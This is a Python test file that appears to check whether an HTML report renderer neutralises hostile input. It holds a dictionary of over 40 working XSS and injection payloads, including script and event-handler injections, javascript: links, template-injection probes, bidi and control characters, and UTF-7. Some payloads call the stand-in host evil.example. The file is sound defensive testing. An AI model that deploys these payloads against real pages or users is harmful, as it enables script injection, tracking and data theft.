"""Documents written to do something on the reader's machine. None may: read strictly here, opened in Chromium below."""

from __future__ import annotations

from pathlib import Path

import pytest
from chromium import Browser
from report_samples import landscape, png, rendered, result, tag
from strict_html import Page

from llmi_sandbox.report import (
    KeyFigure,
    Marks,
    callout,
    code,
    command,
    document_card,
    document_page,
    fold,
    heading,
    key_figures,
    page,
    prose,
    request,
    side_by_side,
    table,
)
from llmi_schema import Constraint, RenderedDocument, ToolResult

PWN = "window.pwned=1"

ATTACKS = {
    "script": f"<script>{PWN}</script>",
    "script in pieces": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "onerror": f"<img src=x onerror={PWN}>",
    "svg onload": f"<svg onload={PWN}><animate onbegin={PWN} attributeName=x></svg>",
    "iframe": f'<iframe src="https://evil.example" srcdoc="<script>{PWN}</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
    "style element": "</style><style>body{background:url(https://evil.example/leak)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    "import": "<style>@import 'https://evil.example/x.css';</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="login">x</a>',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input autofocus onfocus="' + PWN + '"></form>',
    "leaving the title": f"</title></head><body onload={PWN}>",
    "leaving an attribute": f'" onmouseover="{PWN}" x="',
    "leaving a quote": f"' onfocus='{PWN}' autofocus tabindex='0",
    "comment": f"<!--><script>{PWN}</script>-->",
    "cdata": f"<![CDATA[><script>{PWN}</script>]]>",
    "markdown javascript": f"[x](javascript:{PWN}) [y](JAVASCRIPT&colon;{PWN}) <javascript:{PWN}>",
    "markdown entities": f"[x](&#106;avascript:{PWN}) [y](java&#10;script:{PWN}) [z](\x01javascript:{PWN})",
    "markdown data": "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
    "markdown relative": "[x](//evil.example) [y](/etc/passwd) [z](#x)",
    "markdown image": "![x](https://evil.example/track.png) ![y][z]\n\n[z]: https://evil.example/t.png",
    "markdown title": f'[x](https://example.org "\\" onclick={PWN} x=\\"")',
    "markdown reference": f"[x]\n\n[x]: javascript:{PWN}",
    "fence info": f'```"><script>{PWN}</script>\nx\n```',
    "table": f"| <script>{PWN}</script> |\n|:-:|\n| <img src=x onerror={PWN}> |",
    "template": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7}",
    "bidi": "access = 'user\u202e \u2066// only admin\u2069 \u2066'",
    "controls": "a\x00b\x1b]8;;https://evil.example\x07c\x9bd\ufeff\ufdd00\ufdd1\u2e28\ufdd00\ufdd1\u2e29",
    "half a pair": "a \ud800 b",
    "plaintext": "<plaintext><xmp><noscript><textarea><title>",
    "entities": f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    "open tag": f'words <imgen>{{"source": "<script>{PWN}</script>',
    "open thought": f"<think><script>{PWN}</script>",
    "thought": f"</details><think></div></details><script>{PWN}</script></think>",
    "bad tag": f'<imgen>{{"source": "<img src=x onerror={PWN}>", "description": "`<script>{PWN}</script>`"}}</imgen>',
    "bad key": f'<imgen>{{"source": "search", "<script>{PWN}</script>": 1}}</imgen>',
    "meta charset": '<meta charset="utf-7">+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
    "css in a class": f'<div class="page" style="display:none"></div><style>main{{display:none}}</style>{PWN}',
    "srcset": f'<picture><source srcset="//evil.example/x 1x"><img srcset="//evil.example/y 2x" onload={PWN}>',
    "video": f'<video src="//evil.example/v" poster="//evil.example/p" onerror={PWN}><track src="//evil.example">',
    "details": f"<details open ontoggle={PWN}><summary>x</summary></details>",
    "close the document": "</article></main></body></html><script>" + PWN + "</script>",
}


def everywhere(attack: str) -> RenderedDocument:
    """The attack as prose, inside Markdown, and in everything a tag, a tool or a provider can say."""
    text = (
        f"{attack}\n\n# {attack}\n\n- {attack}\n\n**{attack}** {tag('search', attack, query=attack)}\n"
        f"{tag('code', attack, code=attack)} {tag('diffusion', attack, prompt=attack)} {attack}"
    )
    document = rendered(text)
    picture = result(
        png(landscape(64, 48)), "search", attack, licence=attack, attribution=attack, source_url=attack, request=attack
    )  # fmt: skip
    results = [picture if i % 2 == 0 else ToolResult.failed("crashed", attack) for i in range(len(document.results))]
    return document.model_copy(update={"results": tuple(results)})


def whole_page(attack: str) -> str:
    """Every block of a report, given the attack for every word."""
    document = everywhere(attack)
    card = document_card(
        document,
        title=attack,
        prompt=attack,
        constraint=Constraint(required_tools={attack}),
        marks=Marks(0.5, {attack: 0.5}, note=attack),
    )
    return page(
        attack,
        [
            attack,  # a plain str where a block belongs
            heading(attack, kicker=attack),
            prose(attack),
            key_figures(KeyFigure(attack, attack, attack)),
            table([attack], [[attack]], caption=attack),
            code(attack, label=attack),
            command(attack, label=attack),
            callout(attack, title=attack),
            request(attack),
            fold(attack, prose(attack)),
            side_by_side(card, card, labels=(attack, attack)),
        ],
        kicker=attack,
        lede=attack,
        footer=attack,
        language=attack,
    )


def test_there_are_enough() -> None:
    assert len(ATTACKS) >= 40


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_but_words_comes_through(name: str) -> None:
    for html in (document_page(everywhere(ATTACKS[name]), prompt=ATTACKS[name]), whole_page(ATTACKS[name])):
        html.encode("utf-8")
        read = Page(html)
        assert not read.problems
        assert len(read.styles) == 1
        policy = next(a["content"] for _, a in read.elements if a.get("http-equiv"))
        assert policy.startswith("default-src 'none'; ")
        assert not set(html) & set("\u202e\u2066\u2069\x00\x1b\x9b\ufdd0")
        assert "49" not in read.text or "49" in ATTACKS[name]


def test_an_attack_is_still_readable() -> None:
    read = Page(document_page(everywhere(ATTACKS["script"])))
    assert read.text.count(ATTACKS["script"]) >= 8


def test_the_reader_used_here_does_find_problems() -> None:
    for name in ("script", "onerror", "iframe", "refresh", "base", "link", "style attribute", "form", "object"):
        assert Page(ATTACKS[name]).problems, name


def test_chromium_does_nothing_either(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "hostile.html"
    for name, attack in ATTACKS.items():
        for html in (document_page(everywhere(attack)), whole_page(attack)):
            file.write_text(html, encoding="utf-8")
            browser.open(file)
            assert [r for r in browser.requests if not r.startswith("data:")] == [file.as_uri()], name
            assert browser.complaints == [], name
            assert browser.evaluate("window.pwned === undefined && document.scripts.length === 0"), name


def test_the_policy_holds_where_escaping_would_fail(browser: Browser, tmp_path: Path) -> None:
    """The second wall alone: attacks put into a finished page behind the escaping's back."""
    file = tmp_path / "broken.html"
    names = ["script", "onerror", "svg onload", "style attribute", "iframe", "link", "object", "import"]
    attacks = "".join(ATTACKS[name] for name in names)
    file.write_text(page("A page", []).replace("</main>", f"{attacks}</main>"), encoding="utf-8")
    browser.open(file)
    assert browser.evaluate("window.pwned === undefined")
    assert [r for r in browser.requests if "evil" in r] == []
    assert browser.complaints, "the browser says what it refused"
